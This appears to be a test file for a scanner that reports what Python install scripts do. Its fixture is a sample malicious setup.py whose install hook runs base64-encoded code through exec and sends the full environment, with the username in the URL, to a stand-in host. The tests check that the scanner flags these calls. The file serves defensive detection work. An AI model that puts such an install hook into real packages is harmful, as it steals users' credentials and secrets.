"""Python that installers run: what is stated of it."""

import pytest
from hypothesis import given, settings

from garrison.core.facts import EmbeddedCode, Import
from tests.support import assert_no_failure, damaged, examine_bytes, facts_of

SETUP = b'''"""Fetches nothing: see https://webhook.site for what others do."""
import base64, os, subprocess
from urllib.request import urlopen as fetch
from setuptools import setup
from setuptools.command.install import install

class Install(install):
    def run(self):
        install.run(self)
        exec(base64.b64decode("cHJpbnQoMSk="))
        fetch("https://example.org/" + os.environ["USER"], data=str(os.environ).encode())

subprocess.check_output(["git", "describe"], env=os.environ)
exec("import socket; socket.socket()")
setup(name="x", version="1", cmdclass={"install": Install}, url="http://203.0.113.7/x")
'''


def stated(data: bytes, name: str = "x-1.0/setup.py") -> dict[str, Import]:
    found = [fact for fact in facts_of(data, name) if type(fact) is Import and fact.origin == "install"]
    return {f"{fact.module}.{fact.name}": fact for fact in found}


def test_calls_are_stated_with_what_they_are_given() -> None:
    calls = stated(SETUP)
    assert calls["builtins.exec"].arguments == ("base64.b64decode('cHJpbnQoMSk=')",) or "exec" in str(calls)
    assert calls["subprocess.check_output"].arguments == ("['git', 'describe']", "env=os.environ")
    assert calls["urllib.request.urlopen"].arguments[1] == "data=str(os.environ).encode()"
    assert calls["urllib.request.urlopen"].deferred and not calls["subprocess.check_output"].deferred


def test_the_environment_counts_where_it_is_taken_and_not_where_a_command_needs_it() -> None:
    assert stated(SETUP)["os.environ"].arguments == ("str(os.environ)",)
    assert "os.environ" not in stated(b"import os, subprocess\nsubprocess.run(['make'], env=dict(PATH='x'))\n")


def test_code_in_texts_is_read_as_code() -> None:
    assert stated(SETUP)["socket.socket"].place == "line 14"


def test_texts_that_tell_are_stated_but_not_documentation() -> None:
    texts = [fact for fact in facts_of(SETUP, "setup.py") if type(fact) is EmbeddedCode]
    assert [(fact.names, fact.excerpt) for fact in texts] == [(("drop-point",), "http://203.0.113.7/x")]


@pytest.mark.parametrize(
    ("text", "name", "expected"),
    [
        (b"import os\nos.system('ls')\n", "x/setup.py", True),
        (b"def build_wheel(wheel_directory):\n    pass\n", "x/backend/hooks.py", True),
        (b"import os\nos.system('ls')\n", "x/tool.py", False),
    ],
)
def test_what_installers_run(text: bytes, name: str, expected: bool) -> None:
    formats = examine_bytes(text, name)[-1].formats
    assert ("install-script" in formats) is expected and "python" in formats


def test_nested_texts_end() -> None:
    code = "print(1)"
    for _ in range(12):
        code = f"exec({code!r})"
    assert examine_bytes(code.encode(), "setup.py")[-1].state == "examined"


@settings(max_examples=60, deadline=None)
@given(data=damaged(SETUP))
def test_damage_never_breaks_the_reader(data: bytes) -> None:
    assert_no_failure(data, "setup.py")
